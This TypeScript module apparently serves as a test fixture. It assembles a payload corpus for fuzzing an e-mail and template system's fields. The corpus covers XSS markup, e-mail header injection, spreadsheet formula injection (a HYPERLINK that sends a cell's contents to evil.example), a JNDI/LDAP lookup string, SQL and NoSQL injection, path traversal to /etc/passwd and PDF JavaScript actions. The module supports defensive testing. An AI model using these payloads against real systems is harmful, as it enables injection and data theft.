import { placeholderNames } from '#shared/email/placeholders.ts';

/** Every beginning followed by every end. */
const each = (beginnings: string[], ends: string[]) =>
  beginnings.flatMap((beginning) => ends.map((end) => beginning + end));
const points = (...codes: number[]) => codes.map((code) => String.fromCodePoint(code));
const range = (from: number, to: number) =>
  points(...Array.from({ length: to - from + 1 }, (_, index) => from + index));
const within = (characters: string[]) => characters.map((character) => `Ma${character}ria`);

/** The texts of a list; two spaces or a line break are between them. */
const apart = ({ raw }: TemplateStringsArray) =>
  raw
    .join('')
    .trim()
    .split(/\n\s*| {2,}/);

const elements = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script href="data:,alert(1)"/>',
  '<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<math><mtext></table><mglyph><style><img src=x onerror=alert(1)>',
  '<a href=javascript:alert(1)>x</a>',
  '<style>@import "//evil.example/x.css"</style>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<form action=//evil.example><input name=q autofocus onfocus=alert(1)>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<object data=//evil.example>',
  '<!--',
  '<![CDATA[',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)>',
  '<template><p>',
  '<td background=//evil.example>',
  '<x',
];
const endings = ['', '">', "'>", '</title>', '</style>', '</td></table>', '--></script>', '\0'];

const attributes = [
  'onmouseover=alert(1) ',
  'autofocus onfocus=alert(1) ',
  'style=position:fixed;inset:0 ',
  'srcdoc=<script>alert(1)</script> ',
  'href=javascript:alert(1) ',
  'background=//evil.example ',
];

const lineBreaks = ['\r\n', '\n', '\r', '\r\n\t', '\v', '\f', '\x1e', '\x85', '\u2028', '\u2029'];
const headerLines = [
  'Bcc: victim@evil.example',
  'Subject: Another',
  'Content-Type: text/html',
  'Reply-To: <victim@evil.example>',
  '\r\n<h1>Another body</h1>',
  '.\r\nRCPT TO:<victim@evil.example>',
];

const formulaStarts = ['=', '+', '-', '@', '\t=', '\r=', '＝', '＋', '－', '＠', "'=", "''+"];
const formulas = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("//evil.example?"&A1,"Open")',
  'IMPORTXML("//evil.example","//a")',
];

const longParts = ['x', '<', '"', '&', '=', ')', 'e\u0301', '🥖', 'ﷺ', 'loaf ', '{{Email}}', '\n'];

/** The families of the corpus: why it has each, and its texts. */
const families: Record<string, { why: string; texts: string[] }> = {
  markup: {
    why: 'ends what it stands in, and begins an element that runs, loads or swallows the rest',
    texts: each(endings, elements),
  },
  attributes: {
    why: 'leaves the quotes of an attribute and adds another one',
    texts: each(['" ', "' ", '` ', '\\" '], attributes),
  },
  addresses: {
    why: 'runs or loads where a text becomes the address of a link or picture',
    texts: [
      ...apart`
        javascript:alert(1)  JaVaScRiPt:alert(1)  vbscript:x  blob:x  javascript&colon;alert(1)
        javascript%3Aalert(1)  data:text/html,<script>1</script>  //evil.example/x  \\evil.example\x
        https://evil.example  file:///etc/passwd  data:image/svg+xml,<svg onload=alert(1)>
        https://user:pass@evil.example#@good.example
      `,
      'java\tscript:alert(1)',
      'java\nscript:alert(1)',
      '\u0001javascript:alert(1)',
      ' javascript:alert(1)',
    ],
  },
  entities: {
    why: 'becomes markup when it is decoded once more than it was encoded',
    texts: [
      ...apart`
        &lt;script&gt;  &#60;script&#62;  &#x3c;script>  &amp;lt;b&amp;gt;  &quot;  &#0;  %3Cscript%3E
        \x3cscript\x3e  &nbsp  &  ＜script＞  +ADw-b+AD4-
      `,
      '\\u003cscript\\u003e',
    ],
  },
  placeholders: {
    why: 'is filled in when a filled-in template is filled in again, or by another template language',
    texts: [
      ...placeholderNames.flatMap((name) => [`{{${name}}}`, `{{ ${name} }}`, `{{{${name}}}}`]),
      ...placeholderNames.map((name) => `{{Customer{{${name}}}Name}}`),
      ...apart`
        {{constructor}}  {{__proto__}}  {{toString}}  {{7*7}}  {{  }}  {{}}  {0}  #{7*7}  <%= 7*7 %>
        {% raw %}  {{#each this}}  %s%d%n  %(x)s  $&  $1  $'  $$  $<name>  $(id)
      `,
      '$' + '{7*7}',
      '$`',
      '`id`',
    ],
  },
  styles: {
    why: 'ends a declaration, a rule or a comment of CSS',
    texts: apart`
        ; background: url(//evil.example)  } body { display: none } x {  */ body { display: none } /*
        expression(alert(1))  \3c script\3e  url("//evil.example")  -moz-binding: url(x)  @import "x";
        </style><style>*{display:none}  red" onload="alert(1)
      `,
  },
  json: {
    why: 'ends a string of JSON, or is read as another type',
    texts: [
      ...apart`
        ","role":"admin  "}  \"  {"a":1}  []  {}  ]]}  //  /*  1,2  null  undefined  true  false  NaN
        Infinity  1e999  -0  0x10  1_000
      `,
      '\\',
      '\\u0022',
      '\ufeff{}',
    ],
  },
  headers: {
    why: 'ends the line of a header of an e-mail or a response, and begins another one',
    texts: each(
      lineBreaks.map((lineBreak) => `Maria${lineBreak}`),
      headerLines,
    ),
  },
  encodedHeaders: {
    why: 'becomes a line break or another address when a mail program decodes the header',
    texts: [
      ...apart`
        =?utf-8?q?=0D=0ABcc:_victim@evil.example?=  =?utf-8?b?DQpCY2M6IHZAZXZpbC5leGFtcGxl?=
        =?utf-8?q?<script>alert(1)</script>?=  =?iso-8859-1?q?=22=3E?=  =?utf-7?q?+ADw-b?=  =?  ?=
        =?utf-8?q?  =?utf-8?x?bad?=  =3D=0D=0A  Maria%0d%0aBcc: x@evil.example
        "Maria" <victim@evil.example>  <victim@evil.example>  a@b.example, victim@evil.example
        victim@evil.example;  group: a@evil.example, b@evil.example;  (comment) Maria
      `,
      'Maria\\',
    ],
  },
  formulas: {
    why: 'is run by a spreadsheet that opens an export',
    texts: each(formulaStarts, formulas),
  },
  cells: {
    why: 'ends a cell or a line of an export',
    texts: [
      ...apart`
        ,  ;  "  ""  """  "a"  a"b  a,b  a;b  ",  ",=1+1,"  ;=1+1  sep=;  a|b  '  ''  'a'  a\"b
      `,
      'a\tb',
      'a\nb',
      'a\r\nb',
      'a\rb',
      '"\n=1+1',
      '\n=1+1',
      ' "a" ',
    ],
  },
  pdf: {
    why: 'ends a string or an object of PDF, or is markup of its composer',
    texts: [
      ...apart`
        (  )  ((  ))  \)  \(  \053  <feff>  >>  <<  [ ]  #2fJS  %%EOF  ) Tj ET Q  endstream endobj
        >> endobj  xref  trailer << /Root 1 0 R >>  startxref 0  ) /JS (app.alert(1))
        ) /OpenAction << /S /JavaScript /JS (app.alert(1)) >>  ) /Names 1 0 R
        ) /A << /S /URI /URI (//evil.example) >>  ) /AA << /O 1 0 R >>  ) /S /Launch /F (calc.exe)
        1 0 obj << /S /JavaScript >> endobj  { text: 'x', link: '//evil.example' }  [object Object]
        { qr: 'x' }  { image: '/etc/passwd' }  {"stack":[]}  {"pageBreak":"after"}  /EmbeddedFile
      `,
      '(\\',
    ],
  },
  directions: {
    why: 'turns the text around it, so that another name or amount is read',
    texts: [
      ...range(0x202a, 0x202e),
      ...range(0x2066, 0x2069),
      '\u200e',
      '\u200f',
      '\u061c',
    ].flatMap((mark) => [`${mark}gpj.exe`, `12${mark}.50 $`]),
  },
  invisible: {
    why: 'looks like another text, or like none',
    texts: [
      ...within(
        points(0x200b, 0x200c, 0x200d, 0x2060, 0xfeff, 0xad, 0x180e, 0x3164, 0x115f, 0xfffc),
      ),
      ...points(0x200b, 0x2060, 0xfeff, 0x3164, 0xa0, 0x3000, 0x2800).concat(
        '\ufffe',
        '\u{10ffff}',
        '\ue000',
      ),
      ...range(0xe0041, 0xe0044).map((tag) => `Maria${tag}`),
    ],
  },
  equivalents: {
    why: 'is equal to another text after normalization, or changes its length there',
    texts: [
      ...apart`
        Zoë  ﬁg  fig  İ  ı  ẞ  ß  Σς  Ｍａｒｉａ  ⅷ  ½  ①  ﷺ  ΐ  аdmin
      `,
      'Zoe\u0308',
      'A\u030a',
      '\u00c5',
      '\u212b',
      '\u212a',
      'ẛ\u0323',
      'e\u0301\u0323',
      'e\u0323\u0301',
    ],
  },
  scripts: {
    why: 'needs another font, direction or joining',
    texts: [
      ...apart`
        محمد  שלום  王小明  김민준  สมชาย  Nguyễn  Ελένη  Ольга  𠮷野家  ᚠᛇᚻ
      `,
      'अन\u0940त\u093e',
      'abc שלום 123 محمد',
      '👩‍👩‍👧‍👦',
      '👍🏽',
      '🇺🇸🇩',
      '1️⃣',
      '🏴‍☠️',
      '❤️‍🔥',
      '🫠',
      '☃\ufe0e',
      '🥖'.repeat(30),
      '\u0301',
      '\u0e33',
      '\u0600',
      `Z${'\u0301\u0323\u0489'.repeat(40)}`,
      '\u{1f1fa}',
      'کے\u200cها',
    ],
  },
  surrogates: {
    why: 'is no valid UTF-8, so that a database or file could refuse it',
    texts: [
      '\ud83d',
      '\udc00',
      '\udc00\ud83d',
      'Maria\ud83d',
      'Ma\udc00ria',
      '\ud83d<b>',
      '\ud83d\ud83d\ude00',
    ],
  },
  controls: {
    why: 'is no text: a terminal, a parser or a font could take it for a command',
    texts: within([...range(0, 0x1f), ...range(0x7f, 0x9f)]),
  },
  paths: {
    why: 'leaves its folder, its part of an address or its part of a key',
    texts: [
      ...apart`
        ..  ../  ../../etc/passwd  ..\..\x  %2e%2e%2f  %252e%252e  ....//  /  //  /etc/passwd  C:\x  %00
        %2500  ?x=1&y=2  &y=2  ;  %  %zz  +  #  ##  #1001  ORDER#1  a#b|c  |  ||
        USER_EMAIL#ada@bakery.example  a:b  ~  *
      `,
      '\\',
      'order.pdf\u0000.html',
    ],
  },
  expressions: {
    why: 'is a word of a query language',
    texts: apart`
        :value  #name  pk  sk  ttl  size  attribute_exists(pk)  begins_with(pk, :p)  SET #a = :b  REMOVE pk
        {"S":"x"}  {"NULL":true}  {"$gt":""}  ' OR '1'='1  " OR 1=1 --  '; DROP TABLE orders; --  NULL
        listStatus  1; SELECT 1  a AND b  *)(uid=*
      `,
  },
  prototypes: {
    why: 'is a property that every object has',
    texts: apart`
        __proto__  constructor  prototype  hasOwnProperty  toString  valueOf  toJSON  then  __defineGetter__
        constructor.prototype  __proto__[role]  length  name
      `,
  },
  logs: {
    why: 'begins another entry of a log, or commands the terminal that shows it',
    texts: [
      '\n{"level":"ERROR","message":"x"}',
      '\r\n2026-06-14T10:00:00Z ERROR x',
      '\u001b[2J',
      '\u001b[31mred',
      '\u001b]0;title\u0007',
      '\u001b]8;;//evil.example\u0007x',
      '$' + '{jndi:ldap://evil.example/a}',
      '\b\b\b\b',
    ],
  },
  long: {
    why: 'reaches a limit, alone or after it was escaped or normalized',
    texts: each(
      longParts.map((part) => part.repeat(Math.floor(190 / part.length))),
      ['', 'end'],
    ).concat(
      longParts.flatMap((part) =>
        [2_000, 30_000].map((length) => part.repeat(length / part.length)),
      ),
    ),
  },
};

/** Texts that people could type to make them more than text; each once. */
export const payloads: string[] = [
  ...new Set(Object.values(families).flatMap(({ texts }) => texts)),
];

const placeholder = `\\{\\{\\s*(?:${placeholderNames.join('|')})\\s*\\}\\}`;
const character = new RegExp(`${placeholder}|[^\\s]`, 'gu');

/**
 * A harmless text of the same shape: letters, with the spaces, line breaks and placeholders of the
 * given text. What is made of both must differ in nothing but letters.
 */
export const harmless = (text: string): string =>
  text.replace(character, (found) => (found.startsWith('{{') ? found : 'x'));

/** With PROOF=1 every text goes through every field; otherwise through one field of each output. */
export const isFullProof = process.env.PROOF === '1';
